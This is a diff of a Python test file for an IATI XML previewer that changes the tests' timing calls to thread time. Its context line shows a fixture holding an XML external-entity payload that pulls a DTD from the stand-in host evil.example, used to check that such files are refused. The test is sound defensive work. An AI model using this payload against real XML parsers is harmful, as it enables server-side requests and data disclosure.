@@ -46,11 +46,11 @@ PARAMETERS = '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x"> %p;]><ia
 def test_a_file_with_rules_of_its_own_is_refused_before_any_of_them_is_read(
     text: str, encoding: str, tmp_path: Path
 ) -> None:
-    began = time.monotonic()
+    began = time.thread_time()  # of this program's own work: a busy machine does not count
     with pytest.raises(IatiHoldsDoctype) as refused:
         previewed(tmp_path, text.encode(encoding))
     assert refused.value.fields["line"] in (1, 2)
-    assert time.monotonic() - began < 1
+    assert time.thread_time() - began < 1
 
 
 def test_a_doctype_deep_in_a_long_comment_is_found_and_one_inside_a_comment_is_none(tmp_path: Path) -> None:
@@ -148,9 +148,9 @@ def test_twenty_megabytes_with_fifty_thousand_periods_are_read_in_bounded_time_a
     path = tmp_path / "large.xml"
     path.write_text(a_file(*[one] * 10_000))
     assert path.stat().st_size > 20 * MEGABYTE
-    before, began = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, time.process_time()
+    before, began = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, time.thread_time()
     preview = preview_of(path, "large.xml")
-    grown, took = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before, time.process_time() - began
+    grown, took = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before, time.thread_time() - began
     assert (preview.counted.indicators, preview.counted.periods, preview.judged) == (10_000, 50_000, 10_000)
     assert grown < 40 * 1024, "in kilobytes; the elements of the whole file would take ten times as much"
     assert took < 60
